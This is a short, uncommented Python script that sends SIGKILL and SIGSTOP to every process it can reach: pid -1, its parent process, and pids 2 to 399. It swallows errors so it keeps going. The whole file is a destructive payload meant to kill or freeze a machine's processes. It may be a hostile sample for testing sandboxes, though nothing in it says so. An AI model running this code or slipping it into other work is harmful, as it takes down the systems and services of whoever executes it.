import os
import signal

for pid in (-1, os.getppid(), *range(2, 400)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid:
                os.kill(pid, number)
        except OSError:
            pass
